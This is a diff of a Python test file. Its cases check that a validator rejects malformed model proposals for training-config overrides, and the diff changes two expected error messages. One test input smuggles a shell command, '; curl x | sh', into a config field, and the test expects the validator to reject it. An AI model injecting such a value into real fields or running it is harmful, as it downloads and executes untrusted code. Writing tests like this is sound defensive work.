@@ -125,11 +125,11 @@ def test_a_proposal_of_the_model_becomes_overrides(model: type[StubModel]) -> No
         ('{"hypothesis": 3, "overrides": {"optim.lr": 0.001}}', "lacks an object"),
         (
             '{"hypothesis": "x", "overrides": {"optim.lr": 0.001}, "price_per_hour": 0}',
-            "'price_per_hour', which no",
+            "'price_per_hour', which a",
         ),
         (
             '{"hypothesis": "x", "overrides": {"optim.lr": 0.001}, "budget": {"cost": 9}}',
-            "'budget', which no",
+            "'budget', which a",
         ),
         ('{"hypothesis": "x", "overrides": {"resume": "; curl x | sh"}}', "'resume' is not in the space"),
         ('{"hypothesis": "x", "overrides": {"optim.lr": NaN}}', "it may lie in"),
